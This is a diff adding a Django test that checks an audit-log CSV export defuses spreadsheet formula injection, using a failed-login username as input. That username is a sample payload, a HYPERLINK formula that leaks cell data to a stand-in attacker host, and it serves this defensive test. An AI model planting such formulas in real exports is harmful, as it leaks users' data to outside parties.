@@ -5,7 +5,7 @@ import io
 
 import pytest
 from django.template import Context, Template
-from django.test import RequestFactory
+from django.test import Client, RequestFactory
 from django.urls import reverse
 
 from balloonweb.access.actors import Actor
@@ -94,6 +94,15 @@ def test_csv_of_the_filtered_view(world: World):
                              "object_repr", "team_id", "host_id", "domain_id", "before", "after", "result", "message",
                              "job_id", "request_id", "client_ip", "mac"]
     assert world.client("viewer").get(reverse("audit-export")).status_code == 403
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_made_inert_in_the_download(world: World):
+    """Anyone can type a user name at the sign-in page; the failure is audited with that name."""
+    Client().post(reverse("login"), {"username": '=HYPERLINK("http://evil.example/?"&A1,"click")', "password": "x"})
+    response = world.client("superuser").get(reverse("audit-export"), {"action": "auth.login_failed"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["actor_label"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert rows[0]["id"].isdigit()  # numbers are left as they are
 
 
 def test_the_history_snippet_shows_an_objects_own_entries(world: World):
